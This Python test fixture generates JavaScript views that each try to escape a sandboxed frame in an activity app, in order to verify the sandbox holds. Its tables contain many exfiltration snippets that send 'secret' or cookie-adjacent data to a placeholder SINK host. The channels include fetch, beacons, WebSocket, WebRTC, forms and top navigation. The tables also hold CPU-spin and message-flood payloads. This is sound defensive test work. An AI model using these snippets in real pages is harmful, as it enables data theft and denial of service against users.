"""Views that each try one thing that a framed view may not, with harmless data.

`SINK` stands for the address of a listener outside, which must never hear of them.
"""

ATTEMPT = """import { ActivityElement, h } from "../../sdk/v1.js";

const attempt = async () => { %s };

export default class extends ActivityElement {
  outcome = "trying";

  connectedCallback() {
    const show = (outcome) => { this.outcome = outcome; this.redraw(); };
    attempt().then((found) => show(`reached ${found}`), (error) => show(`kept out: ${error?.name ?? "error"}`));
  }

  view() {
    return h("p", { id: "outcome" }, this.outcome);
  }
}
"""

ANSWER = """import { ActivityElement, h } from "../../sdk/v1.js";

const SETTLE_MS = 400; // until the page knows the view, and what was sent has arrived

const attempt = async () => { %s };

export default class extends ActivityElement {
  connectedCallback() {
    const answer = (waved) => setTimeout(() => this.submit({ waved }), SETTLE_MS);
    attempt().then(() => answer(true), () => answer(false));
  }

  view() {
    return h("p", {}, "here");
  }
}
"""
"""A view that answers whether its attempt got through: no driver has to look into frames."""

PEER = """const made = new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }] });
made.createDataChannel("x");
made.setLocalDescription(await made.createOffer());
"""

LOADED = """return new Promise((resolve, reject) => {
  const made = document.createElement("%s");
  Object.assign(made, { onload: () => resolve("it"), onerror: reject }, %s);
  document.body.append(made);
});"""

REACHES = {
    "local-storage": "return localStorage.getItem('conflicto.server');",
    "tab-storage": "return sessionStorage.length;",
    "database": (
        "return new Promise((resolve, reject) => "
        "{ const made = indexedDB.open('x'); made.onsuccess = resolve; made.onerror = reject; });"
    ),
    "cookie": "document.cookie = 'wave=1'; return document.cookie;",
    "parent-document": "return parent.document.title;",
    "top-document": "return top.document.title;",
    "frame-element": "if (!frameElement) throw new Error('none'); return frameElement.ownerDocument.title;",
    "fetch-outside": "return (await fetch('SINK/fetch', { mode: 'no-cors' })).type;",
    "fetch-api": "return (await fetch('/api/v1/activity-types')).status;",
    "request": "const made = new XMLHttpRequest(); made.open('GET', 'SINK/xhr', false); made.send(); return made.status;",
    "image": LOADED % ("img", "{ src: 'SINK/image?secret' }"),
    "image-of-the-api": LOADED % ("img", "{ src: '/api/v1/sessions/by-code/BCDFGHJK' }"),
    "script": LOADED % ("script", "{ src: 'SINK/script' }"),
    "module": "const address = 'SINK/module'; return await import(address);",
    "style": LOADED % ("link", "{ rel: 'stylesheet', href: 'SINK/style' }"),
    "nested-frame": LOADED % ("iframe", "{ src: 'SINK/frame', onload: () => reject(new Error('blocked')) }"),
    "web-socket": (
        "return new Promise((resolve, reject) => "
        "{ const made = new WebSocket('SINK/socket'.replace('http', 'ws')); made.onopen = resolve; made.onerror = reject; });"
    ),
    "events": (
        "return new Promise((resolve, reject) => "
        "{ const made = new EventSource('SINK/events'); made.onopen = resolve; made.onerror = reject; });"
    ),
    "beacon": (
        "if (!navigator.sendBeacon('SINK/beacon', 'secret')) throw new Error('blocked'); "
        "await new Promise((go) => setTimeout(go, 300)); throw new Error('queued');"
    ),
    "worker": (
        "return new Promise((resolve, reject) => { const made = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); "
        "made.onmessage = resolve; made.onerror = reject; });"
    ),
    "peer-connection": (
        "const made = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] }); made.createDataChannel('x'); "
        "await made.setLocalDescription(await made.createOffer()); "
        "await new Promise((go) => setTimeout(go, 500)); throw new Error('tried');"
    ),
    "peer-of-a-blank-frame": (
        "const made = document.createElement('iframe'); document.body.append(made); "
        "const Peer = made.contentWindow.RTCPeerConnection; return typeof Peer;"
    ),
    "peer-of-a-nested-page": (
        "const made = document.createElement('iframe'); "
        "made.srcdoc = `<script type=module src=${new URL('./peer.js', import.meta.url)}></script>`; "
        "document.body.append(made); await new Promise((go) => setTimeout(go, 1000)); throw new Error('tried');"
    ),
    "preconnect": (
        "const made = document.createElement('link'); Object.assign(made, { rel: 'preconnect', href: 'SINK' }); "
        "document.head.append(made); await new Promise((go) => setTimeout(go, 500)); throw new Error('no answer');"
    ),
    "form": (
        "const made = document.createElement('form'); Object.assign(made, { action: 'SINK/form', method: 'post' }); "
        "document.body.append(made); made.submit(); await new Promise((go) => setTimeout(go, 300)); throw new Error('no answer');"
    ),
    "popup": "if (!window.open('SINK/popup')) throw new Error('blocked'); return 'a window';",
    "top-navigation": ("top.location = 'SINK/top'; await new Promise((go) => setTimeout(go, 300)); throw new Error('no answer');"),
    "styled-image": (
        "const made = new CSSStyleSheet(); made.replaceSync('main { background: url(SINK/background) }'); "
        "document.adoptedStyleSheets = [made]; await new Promise((go) => setTimeout(go, 300)); throw new Error('no answer');"
    ),
    "prefetch": (
        "const made = document.createElement('link'); Object.assign(made, { rel: 'prefetch', href: 'SINK/prefetch' }); "
        "document.head.append(made); await new Promise((go) => setTimeout(go, 300)); throw new Error('no answer');"
    ),
}
"""Bodies of functions that return what they reached, or throw."""

LEAVES = {
    "navigation": "location = 'SINK/self?secret';",
    "refresh": (
        "const made = document.createElement('meta'); Object.assign(made, { httpEquiv: 'refresh', content: '0;url=SINK/refresh' }); "
        "document.head.append(made);"
    ),
    "own-page": "location = location.href + '?again';",
    "api-page": "location = '/api/v1/sessions/by-code/BCDFGHJK';",
}
"""Bodies of functions after which the frame would hold another document."""

EXCESSES = {
    "spins": "setTimeout(() => { for (;;); }, 100);",
    "floods": "setInterval(() => { for (let n = 0; n < 100; n += 1) this.updateDraft({ waved: true }); }, 10);",
    "floods-with-text": "setInterval(() => this.updateDraft({ waved: 'x'.repeat(60000) }), 20);",
    "sends-nonsense": "setInterval(() => parent.postMessage({ waved: 'x' }, '*'), 10);",
    "submits-for-ever": "setInterval(() => this.submit({ waved: true }), 20);",
    "grows": ("setInterval(() => this.append(...Array.from('x'.repeat(99), () => document.createElement('hr'))), 20);"),
}
"""Statements in a view that then takes more than its share."""

EXCESS = """import { ActivityElement, h } from "../../sdk/v1.js";

export default class extends ActivityElement {
  connectedCallback() {
    %s
  }

  view() {
    return h("p", { id: "outcome" }, "here");
  }
}
"""


def misbehaving_views(sink: str, stun: str) -> dict[str, dict[str, str]]:
    """Return the modules by the name of the type: a participant's view and what it loads."""
    return _views(ATTEMPT, sink, stun)


def answering_views(sink: str, stun: str) -> dict[str, dict[str, str]]:
    """Return the same views, except that attempts answer with their outcome."""
    return _views(ANSWER, sink, stun)


def _views(template: str, sink: str, stun: str) -> dict[str, dict[str, str]]:
    attempts = {name: template % body for name, body in (REACHES | LEAVES).items()}
    excesses = {name: EXCESS % body for name, body in EXCESSES.items()}
    return {
        name: {"participant": source.replace("SINK", sink).replace("STUN", stun), "peer": PEER.replace("STUN", stun)}
        for name, source in (attempts | excesses).items()
    }
